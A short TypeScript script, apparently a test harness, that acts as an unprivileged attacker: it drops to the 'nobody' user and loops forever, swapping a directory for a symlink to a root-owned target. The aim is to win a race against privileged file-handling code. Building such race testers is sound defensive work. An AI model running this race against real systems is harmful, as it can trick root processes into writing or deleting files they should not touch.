import fs from 'node:fs';

/**
 * A local user without any rights, who for as long as he lives swaps a directory of his own for a link to one of root's:
 * `attacker DIRECTORY TARGET`.
 */
const [directory = '', target = ''] = process.argv.slice(-2);
const nobody = 65_534;
process.setgroups?.([]);
process.setgid?.(nobody);
process.setuid?.(nobody);

function spin(turns: number): void {
  for (let turn = 0; turn < turns; turn += 1) {
    fs.existsSync(directory);
  }
}

for (let round = 0; ; round += 1) {
  fs.renameSync(directory, `${directory} away`);
  fs.symlinkSync(target, directory);
  spin(round % 7);
  fs.unlinkSync(directory);
  fs.renameSync(`${directory} away`, directory);
  spin(round % 31);
}
